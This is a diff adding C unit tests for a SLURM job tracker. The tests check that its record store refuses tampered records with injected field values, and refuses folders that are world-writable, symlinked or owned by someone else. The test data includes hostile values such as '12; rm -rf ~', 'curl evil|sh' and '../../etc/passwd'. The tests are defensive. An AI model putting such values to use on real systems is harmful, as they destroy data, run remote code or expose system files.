@@ -261,3 +261,99 @@ Test(record, events_are_kept_even_without_a_state_change)
 	cr_expect_str_eq(r->hist[1].message, "submitted as SLURM job 7");
 	record_free(r);
 }
+
+#include "engine/config.h"
+#include "engine/tracker.h"
+
+/* A record file written by hand, as someone with write access could. */
+static void write_record(const char *dir, const char *id, const char *field, const char *value)
+{
+	char *path = xasprintf("%s/%s.json", dir, id);
+	FILE *f = fopen(path, "w");
+	cr_assert_not_null(f);
+	fprintf(f, "{\"id\": \"%s\", \"cluster\": \"rig\", %s"
+	    "\"%s\": \"%s\", \"state\": \"Running\", \"created\": \"2026-01-01T00:00:00Z\", "
+	    "\"updated\": \"2026-01-01T00:00:00Z\", \"transitions\": []}\n", id,
+	    strcmp(field, "log_dir") != 0 ? "\"log_dir\": \"/lustre/x/slurm-logs\", " : "", field, value);
+	fclose(f);
+	free(path);
+}
+
+Test(record, hostile_values_are_refused_on_load_before_any_command)
+{
+	const char *dir = tmpdir();
+	struct record_store *s = open_store(dir);
+	static const struct { const char *field, *value; } bad[] = {
+		{ "backend_ref", "--user=u" },
+		{ "backend_ref", "12; rm -rf ~" },
+		{ "backend_ref", "-1" },
+		{ "backend_ref", "" },
+		{ "secrets", "HF_TOKEN,X;curl evil|sh" },
+		{ "secrets", "A=B" },
+		{ "retry_of", "../../etc/passwd" },
+		{ "log_dir", "-rf" },
+		{ "results_dir", "relative/path" },
+	};
+	struct cluster_cfg cl = { .name = (char *)"rig" };
+
+	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
+		char id[32], *err = NULL, *msg = NULL;
+		struct job_record *r = NULL;
+		snprintf(id, sizeof(id), "tao-20260101-bad%02zu", i);
+		write_record(dir, id, bad[i].field, bad[i].value);
+		cr_expect_eq(store_load(s, id, &r, &err), -1, "%s=%s loaded", bad[i].field, bad[i].value);
+		cr_expect(err != NULL && strstr(err, bad[i].field) != NULL, "%s", err ? err : "");
+		free(err);
+		err = NULL;
+		/* cancel never gets as far as a connection (NULL here): the
+		 * record is refused first, and nothing else names this id. */
+		if (strcmp(bad[i].field, "backend_ref") == 0) {
+			cr_expect_eq(tracker_cancel(NULL, s, &cl, id, &msg, &err), -1);
+			cr_expect_null(msg);
+			free(err);
+		}
+		record_free(r);
+	}
+	/* The same file with a good id loads. */
+	write_record(dir, "tao-20260101-good00", "backend_ref", "120_3");
+	{
+		struct job_record *r = NULL;
+		char *err = NULL;
+		cr_expect_eq(store_load(s, "tao-20260101-good00", &r, &err), 0, "%s", err ? err : "");
+		record_free(r);
+		free(err);
+	}
+	store_close(s);
+}
+
+Test(record, a_records_folder_not_private_or_not_ours_is_refused)
+{
+	const char *dir = tmpdir();
+	struct record_store *s = open_store(dir);
+	char *err = NULL, *link;
+	store_close(s);
+
+	cr_assert_eq(chmod(dir, 0777), 0);
+	cr_expect_null(store_open(dir, &err));
+	cr_expect(err != NULL && strstr(err, "chmod 700") != NULL, "%s", err ? err : "");
+	free(err);
+	err = NULL;
+	cr_assert_eq(chmod(dir, 0700), 0);
+
+	link = xasprintf("%s-link", dir);
+	cr_assert_eq(symlink(dir, link), 0);
+	cr_expect_null(store_open(link, &err));
+	cr_expect(err != NULL && strstr(err, "not a folder") != NULL, "%s", err ? err : "");
+	free(err);
+	err = NULL;
+	unlink(link);
+	free(link);
+
+	if (geteuid() == 0) {
+		/* root: a folder of another user's. */
+		cr_assert_eq(chown(dir, 65534, 65534), 0);
+		cr_expect_null(store_open(dir, &err));
+		cr_expect(err != NULL && strstr(err, "not to you") != NULL, "%s", err ? err : "");
+		free(err);
+	}
+}
